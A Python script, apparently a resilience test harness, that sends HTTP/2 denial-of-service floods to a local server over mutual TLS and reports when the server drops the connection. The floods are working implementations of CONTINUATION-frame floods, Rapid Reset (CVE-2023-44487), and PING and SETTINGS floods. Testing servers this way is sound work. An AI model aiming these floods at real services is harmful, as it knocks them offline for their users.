"""Floods an HTTP/2 port over mutual TLS and says what it took: `http2_flood.py FLOOD PORT CA CERTIFICATE KEY`.

FLOOD is one of
  one-header     one header field of 24 MiB, in CONTINUATION frames (CVE-2023-33953: 23 s of gRPC 1.51's processor)
  many-headers   header fields without end, in CONTINUATION frames
  empty-frames   CONTINUATION frames without content, without end
  rapid-reset    streams that are reset as soon as they are opened (CVE-2023-44487)
  pings, settings   frames that ask for an answer each, the answers unread

Prints `{"sent": BYTES, "end": "goaway" | "closed" | "none"}`: how much was sent until the server ended the connection. The server is
asked after each portion, and waited for only at the end, so the number is at most one portion more than what the server took, or what
had been under way.
"""

import json
import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM_AND_HEADERS = 5
CANCEL = struct.pack(">I", 8)
TOTAL = 24 << 20
LARGEST_FRAME = 16384
PATIENCE_SECONDS = 30


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, pattern=0):
    """RFC 7541, 5.1."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([pattern | value])
    encoded, value = bytes([pattern | limit]), value - limit
    while value >= 128:
        encoded, value = encoded + bytes([value & 127 | 128]), value >> 7
    return encoded + bytes([value])


def literal(name, value):
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


# :method POST, :scheme https, :path, :authority
REQUEST = b"\x83\x87" + b"\x04" + integer(2, 7) + b"/x" + b"\x01" + integer(9, 7) + b"localhost"


def one_header():
    yield frame(HEADERS, 0, 1, REQUEST + b"\0" + integer(1, 7) + b"a" + integer(TOTAL, 7))
    for _ in range(TOTAL // LARGEST_FRAME):
        yield frame(CONTINUATION, 0, 1, b"x" * LARGEST_FRAME)


def many_headers():
    yield frame(HEADERS, 0, 1, REQUEST)
    field = literal(b"a", b"b")
    for _ in range(TOTAL // LARGEST_FRAME):
        yield frame(CONTINUATION, 0, 1, field * (LARGEST_FRAME // len(field)))


def empty_frames():
    yield frame(HEADERS, 0, 1, REQUEST)
    portion = frame(CONTINUATION, 0, 1) * 1000
    for _ in range(TOTAL // len(portion)):
        yield portion


def rapid_reset():
    for first in range(1, 200_000, 100):
        streams = range(first, first + 100, 2)
        yield b"".join(frame(HEADERS, END_STREAM_AND_HEADERS, n, REQUEST) + frame(RESET, 0, n, CANCEL) for n in streams)


def repeated(portion):
    for _ in range(TOTAL // len(portion)):
        yield portion


FLOODS = {
    "one-header": one_header(),
    "many-headers": many_headers(),
    "empty-frames": empty_frames(),
    "rapid-reset": rapid_reset(),
    "pings": repeated(frame(PING, 0, 0, b"12345678") * 100),
    "settings": repeated(frame(SETTINGS, 0, 0) * 100),
}


class Frames:
    """What the server sends, as far as it says that the connection ends."""

    def __init__(self, session):
        self.session, self.received = session, b""

    def end(self, wait):
        """`goaway` or `closed`; `none` where neither has come yet, or in PATIENCE_SECONDS with `wait`."""
        self.session.settimeout(PATIENCE_SECONDS if wait else 0)
        try:
            while True:
                data = self.session.recv(1 << 16)
                if not data:
                    return "closed"
                self.received += data
                if self.has_goaway():
                    return "goaway"
        except (ssl.SSLWantReadError, BlockingIOError, TimeoutError):
            return "none"
        except OSError:
            return "closed"

    def has_goaway(self):
        while len(self.received) >= 9:
            size = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < size:
                return False
            if self.received[3] == GOAWAY:
                return True
            self.received = self.received[size:]
        return False


def flood(session, portions):
    frames, sent = Frames(session), 0
    for portion in portions:
        session.settimeout(PATIENCE_SECONDS)
        try:
            session.sendall(portion)
        except OSError:
            return sent, "closed"
        sent += len(portion)
        if (end := frames.end(wait=False)) != "none":
            return sent, end
    return sent, frames.end(wait=True)


def main():
    name, port, ca, certificate, key = sys.argv[1:]
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(certificate, key)
    with socket.create_connection(("127.0.0.1", int(port)), timeout=PATIENCE_SECONDS) as connection:
        session = context.wrap_socket(connection, server_hostname="localhost")
        session.sendall(PREFACE + frame(SETTINGS, 0, 0))
        sent, end = flood(session, FLOODS[name])
    print(json.dumps({"sent": sent, "end": end}))


if __name__ == "__main__":
    main()
